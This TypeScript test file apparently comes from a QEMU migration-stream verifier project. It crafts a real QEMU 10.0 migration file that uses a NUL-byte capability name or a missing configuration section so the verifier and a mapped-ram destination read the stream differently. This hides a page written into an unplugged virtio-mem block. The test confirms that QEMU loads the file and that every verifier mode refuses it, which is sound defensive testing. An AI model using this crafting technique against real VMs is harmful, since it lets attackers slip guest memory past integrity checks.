/**
 * Red team, proven with real QEMU 10.0: how the destination reads the
 * RAMBlock list depends on two of its capabilities, `x-ignore-shared` (a GPA
 * after each entry) and `mapped-ram` (a 28-byte header after which QEMU reads
 * the block's pages from file offsets the header gives and then seeks on to
 * `pages_offset + used_length`; migration/ram.c `parse_ramblock_mapped_ram`).
 * The configuration section is where the stream states them, and QEMU checks
 * them against its own there (migration/savevm.c
 * `configuration_validate_capabilities`). Two ways past that check:
 *
 * - `nul-capability`: the capability named `mapped-ram\0`: QEMU compares the
 *   name as a C string (`get_capability`), so to it the stream has
 *   mapped-ram, as the destination does; the verifier took the name as
 *   written, no mapped-ram, and read the stream as a plain one.
 * - `no-configuration`: no configuration section at all: only a destination
 *   with `send-configuration` off loads it, and that one checks nothing.
 *
 * The crafted file is then one stream to the verifier and another to a
 * mapped-ram destination. The mapped-ram header QEMU reads after the
 * virtio-mem block's entry is, byte for byte, what the verifier reads as EOS,
 * the `ram` footer, a `ram` PART section and a MULTIFD_FLUSH record (the
 * header has version 0, a page size so large that the block has no pages, and
 * its pages at 32 MiB); the verifier goes on through the early section, pages
 * of plugged blocks, the real device state, EOF and vmdesc: clean. QEMU seeks
 * to 32 MiB + used_length, into the data of one of those pages, where the
 * early section and a second RAMBlock list hide: its header loads a page into
 * an unplugged block (bitmap and page in other pages' data), and QEMU seeks on
 * to EOS, footer and QEMU_VM_EOF hidden in a third page. No `P/virtio-mem`
 * section is ever loaded, so the device's post-load discard of unplugged
 * blocks never runs and the page stays.
 *
 * The decoder now refuses both: a capability name with a NUL byte, and (in
 * its `prove` mode: verify, filter, the proxy, scan) a stream without a
 * configuration section.
 */

import assert from "node:assert/strict";
import { bytesReader } from "../../src/io/byte_reader.ts";
import { decodeMigration } from "../../src/migration/decoder.ts";
import type { MigrationRecord, SectionHeaderRecord } from "../../src/migration/types.ts";
import { FormatError } from "../../src/errors.ts";
import { relayMigration } from "../../src/proxy/relay.ts";
import { execCli, runCli } from "../_util/cli.ts";
import { evilPage } from "../_util/guest.ts";
import {
  qemuAvailable,
  startDestination,
  startTinyGuest,
  tempDir,
  VMEM_GPA,
} from "../_util/qemu.ts";
import { be32, be64, concat, cstr8 } from "./_device_state_attacks.ts";

const MiB = 1 << 20;
const PAGE = 4096;
/** A small device (8 blocks of 2 MiB) keeps the crafted file near 60 MiB. */
const LAYOUT = { regionBytes: 16 * MiB, blockBytes: 2 * MiB, requestedBytes: 0 };
/** Blocks 0 and 1 plugged; the page goes into block 5. */
const PLUGGED_BLOCKS = 2;
const ATTACK_OFFSET = 5 * 2 * MiB + 0x3000;
const TAG = "EVIL-HIDDEN-MAPPED-RAM";

/** A file written front to back whose RAM record data can be placed at chosen file offsets. */
class Builder {
  parts: Uint8Array[] = [];
  pos = 0;
  /** Page records of the plugged blocks, in turn (the verifier finds them clean). */
  #page = 0;
  constructor(readonly vmem: string) {}
  push(b: Uint8Array): void {
    this.parts.push(b);
    this.pos += b.byteLength;
  }
  #nextOffset(): number {
    return (this.#page++ % (PLUGGED_BLOCKS * 2 * MiB / PAGE)) * PAGE;
  }
  /** A PAGE record (CONTINUE) of a plugged block with `data`. */
  page(data: Uint8Array, named = false): void {
    const flags = named ? 0x08 : 0x28;
    this.push(be64(this.#nextOffset() + flags));
    if (named) this.push(cstr8(this.vmem));
    this.push(data);
  }
  /** Filler records so that the next record's data starts at file offset `at`. */
  dataAt(at: number, data: Uint8Array): void {
    const named = 10 + this.vmem.length; // a named ZERO record
    for (;;) {
      const gap = at - 8 - this.pos;
      if (gap < 0) throw new Error(`cannot place data at ${at}: already at ${this.pos}`);
      if (gap < 4104 + 9 * 40 + named * 9) break;
      this.page(new Uint8Array(PAGE));
    }
    const gap = at - 8 - this.pos;
    let fitted = false;
    for (let c = 0; c < 9 && !fitted; c++) {
      for (let p = 0; p < 2 && !fitted; p++) {
        const rest = gap - c * named - p * (4105 + this.vmem.length);
        if (rest < 0 || rest % 9 !== 0) continue;
        for (let i = 0; i < p; i++) this.page(new Uint8Array(PAGE), true);
        for (let i = 0; i < c; i++) {
          this.push(be64(this.#nextOffset() + 0x02));
          this.push(cstr8(this.vmem));
          this.push(new Uint8Array(1));
        }
        for (let i = 0; i < rest / 9; i++) {
          this.push(be64(this.#nextOffset() + 0x22));
          this.push(new Uint8Array(1));
        }
        fitted = true;
      }
    }
    if (!fitted) throw new Error(`cannot fill ${gap} bytes`);
    this.page(data);
    if (this.pos !== at + PAGE) throw new Error("misplaced");
  }
}

/**
 * The crafted file from a real QEMU 10.0 stream of the tiny guest (early
 * layout: the early section comes before the RAM and stays).
 */
function craft(
  bytes: Uint8Array,
  records: MigrationRecord[],
  configuration: Uint8Array,
): Uint8Array<ArrayBuffer> {
  const start = records.find((r) => r.kind === "section-start") as SectionHeaderRecord;
  const memSize = records.find((r) => r.kind === "ram-mem-size")!;
  if (memSize.kind !== "ram-mem-size") throw new Error("no block list");
  const vmem = memSize.blocks.find((b) => b.idstr.endsWith("mem") && b.idstr.includes("/"))!;
  const R = vmem.usedLength;
  const ramId = start.sectionId;
  // The device-state tail: after the footer of the last `ram` section.
  const ramFooters = records.filter((r) => r.kind === "section-footer" && r.sectionId === ramId);
  const tailAt = ramFooters[ramFooters.length - 1]!.streamOffset + 5;
  // The early section (QEMU 10.0 writes it after the `ram` START section).
  const earlyHeader = records.find((r) =>
    r.kind === "section-full" && r.idstr.endsWith("/virtio-mem-device-early")
  ) as SectionHeaderRecord;
  const earlyFooter = records.find((r) =>
    r.kind === "section-footer" && r.sectionId === earlyHeader.sectionId
  )!;
  const early = bytes.subarray(earlyHeader.streamOffset, earlyFooter.streamOffset + 5);

  const b = new Builder(vmem.idstr);
  b.push(bytes.subarray(0, 8)); // QEVM, version
  b.push(configuration);
  b.push(bytes.subarray(start.streamOffset, memSize.streamOffset)); // START ram
  b.push(be64(R + 0x04)); // MEM_SIZE: the virtio-mem block only (QEMU needs no other)
  b.push(cstr8(vmem.idstr));
  b.push(be64(R));
  // The 28 bytes QEMU reads as the block's mapped-ram header.
  const pagesOffset = 32 * MiB;
  b.push(be64(0x10)); // verifier: EOS | QEMU: version 0, page_size 0x10_7e...: no pages
  b.push(concat([new Uint8Array([0x7e]), be32(ramId)])); // verifier: footer
  b.push(concat([new Uint8Array([0x02]), be32(ramId)])); // verifier: PART ram
  b.push(be64(0x200)); // verifier: MULTIFD_FLUSH | QEMU: pages_offset's high bytes
  // pages_offset = 32 MiB: its last two bytes (0) start the verifier's next record, EOS.
  b.push(be64(0x10));
  const header = concat(b.parts).subarray(b.pos - 34);
  assert.equal(
    new DataView(header.buffer, header.byteOffset).getBigUint64(20),
    BigInt(pagesOffset),
  );
  // The verifier: the `ram` footer, the early section, then a PART whose first page names its
  // block. QEMU never reads these bytes (they lie before where it seeks to).
  b.push(concat([new Uint8Array([0x7e]), be32(ramId)]));
  b.push(early);
  b.push(concat([new Uint8Array([0x02]), be32(ramId)]));
  b.push(be64(0x08));
  b.push(cstr8(vmem.idstr));
  b.push(new Uint8Array(PAGE));

  // QEMU goes on at pagesOffset + R: EOS, footer, a second list whose header loads the page.
  const j1 = pagesOffset + R;
  const pageAt = j1 + 4 * PAGE; // where the page's data is (4 KiB aligned)
  const pp = pageAt - ATTACK_OFFSET; // the second header's pages_offset
  const j2 = pp + R; // where QEMU goes on after the second block
  if (pp % PAGE !== 0 || pp < 0 || j2 < pageAt + 2 * PAGE) throw new Error("layout");
  const q1Head = concat([
    be64(0x10),
    new Uint8Array([0x7e]),
    be32(ramId),
    early, // QEMU loads the plug state here
    new Uint8Array([0x01]),
    be32(0x7ff0),
    cstr8("ram"),
    be32(0),
    be32(4),
    be64(R + 0x04),
    cstr8(vmem.idstr),
    be64(R),
  ]);
  const bitmapAt = j1 + q1Head.byteLength + 28;
  const bitmap = new Uint8Array(8 * Math.ceil(R / PAGE / 64));
  const bit = ATTACK_OFFSET / PAGE;
  bitmap[bit >>> 3]! |= 1 << (bit & 7); // QEMU's bitmap: host longs, little-endian on x86
  const q1 = concat([q1Head, be32(1), be64(PAGE), be64(bitmapAt), be64(pp), bitmap]);
  const d1 = new Uint8Array(PAGE);
  d1.set(q1);
  b.dataAt(j1, d1);
  b.dataAt(pageAt, evilPage(TAG, VMEM_GPA + ATTACK_OFFSET));
  const d3 = new Uint8Array(PAGE);
  d3.set(concat([be64(0x10), new Uint8Array([0x7e]), be32(0x7ff0), new Uint8Array([0x00])]), 16);
  b.dataAt(j2 - 16, d3);
  // The verifier's stream ends as the real one: EOS, footer, the real device state, EOF, vmdesc.
  b.push(be64(0x10));
  b.push(concat([new Uint8Array([0x7e]), be32(ramId)]));
  b.push(bytes.subarray(tailAt));
  return concat(b.parts);
}

/** The real configuration section with a capabilities subsection naming `name`. */
function withCapability(bytes: Uint8Array, records: MigrationRecord[], name: string) {
  const config = records.find((r) => r.kind === "configuration")!;
  const end = records[records.indexOf(config) + 1]!.streamOffset;
  if (config.kind !== "configuration" || config.subsections.length > 0) {
    throw new Error("expected a configuration section without subsections");
  }
  const sub = "configuration/capabilities";
  return concat([
    bytes.subarray(config.streamOffset, end),
    new Uint8Array([0x05]), // a subsection: name, version 1, capability count, names
    cstr8(sub),
    be32(1),
    be32(1),
    cstr8(name),
  ]);
}

const VARIANTS = {
  "nul-capability": {
    configuration: (bytes: Uint8Array, records: MigrationRecord[]) =>
      withCapability(bytes, records, "mapped-ram\0"),
    extraArgs: [] as string[],
    refusal: /capability "mapped-ram\\u0000" contains a NUL byte/,
  },
  "no-configuration": {
    configuration: () => new Uint8Array(0),
    extraArgs: ["-global", "migration.send-configuration=off"],
    refusal: /no configuration section/,
  },
};

Deno.test({
  name:
    "real QEMU 10 with mapped-ram loads a page into an unplugged block from a stream that hides mapped-ram from the verifier; verify refuses it",
  ignore: !qemuAvailable("10", "tiny"),
  sanitizeResources: false,
  fn: async (t) => {
    await using tmp = await tempDir("vmem-redteam-config-");
    const basePath = `${tmp.path}/base.mig`;
    {
      await using src = await startTinyGuest({ qemu: "10", layout: LAYOUT });
      await src.guest.plugBlocks(0, PLUGGED_BLOCKS);
      await src.migrateToFile(basePath);
    }
    const bytes = await Deno.readFile(basePath);
    const records: MigrationRecord[] = [];
    for await (const r of decodeMigration(bytesReader(bytes))) records.push(r);
    for (const [name, v] of Object.entries(VARIANTS)) {
      await t.step(name, async () => {
        const crafted = craft(bytes, records, v.configuration(bytes, records));
        const path = `${tmp.path}/${name}.mig`;
        await Deno.writeFile(path, crafted);
        await assertQemuLoadsThePage(path, v.extraArgs, name);
        await assertRefused(path, crafted, v.refusal, name);
        await Deno.remove(path);
      });
    }
  },
});

/** A destination that restores mapped-ram files loads the page into the unplugged block. */
async function assertQemuLoadsThePage(path: string, extraArgs: string[], what: string) {
  await using dst = await startDestination({
    qemu: "10",
    guest: "tiny",
    layout: LAYOUT,
    incoming: "defer",
    extraArgs,
  });
  await dst.qmp("migrate-set-capabilities", {
    capabilities: [{ capability: "mapped-ram", state: true }],
  });
  await dst.migrateIncoming(`file:${path}`, { exitOnError: false });
  const info = await dst.waitMigration(["completed", "failed", "cancelled"], 120_000);
  assert.equal(
    info.status,
    "completed",
    `${what}: QEMU loads it: ${JSON.stringify(info)}\n${dst.diagnostics()}`,
  );
  const page = await dst.gdbReadPhys(VMEM_GPA + ATTACK_OFFSET, PAGE);
  assert.deepEqual(page, evilPage(TAG, VMEM_GPA + ATTACK_OFFSET), `${what}: the page landed`);
  // … in a block the destination holds unplugged (the early section's state: 2 blocks).
  assert.equal((await dst.vmem()).size, PLUGGED_BLOCKS * 2 * MiB, `${what}: plugged size`);
  await dst.kill();
}

/** Every consumer refuses the file (exit 1, the reason named); nothing reaches a destination. */
async function assertRefused(path: string, crafted: Uint8Array, refusal: RegExp, what: string) {
  for (const args of [["verify", path], ["verify", "--single-pass", path], ["scan", path]]) {
    const r = await runCli(args);
    assert.equal(r.code, 1, `${what}: ${args.join(" ")}: ${r.out}${r.err}`);
    assert.match(r.err, refusal, `${what}: ${args.join(" ")}`);
  }
  const piped = await execCli(["verify", "-"], { stdinFile: path });
  assert.equal(piped.code, 1, `${what}: verify - < file: ${piped.out}${piped.err}`);
  // The proxy's verify mode refuses it at the configuration: no record reaches the destination.
  const written: Uint8Array[] = [];
  const relayed = await relayMigration(bytesReader(crafted), (c) => {
    written.push(c.slice());
    return Promise.resolve();
  }, { mode: "verify" }).then(() => undefined, (x: unknown) => x);
  assert.ok(relayed instanceof FormatError, `${what}: proxy verify fails: ${relayed}`);
  assert.ok(
    written.reduce((n, c) => n + c.byteLength, 0) <= 8,
    `${what}: the proxy forwarded a record`,
  );
  const filtered = await runCli(["filter", path, `${path}.out`]);
  assert.equal(filtered.code, 1, `${what}: filter: ${filtered.err}`);
  await assert.rejects(Deno.stat(`${path}.out`), Deno.errors.NotFound);
}
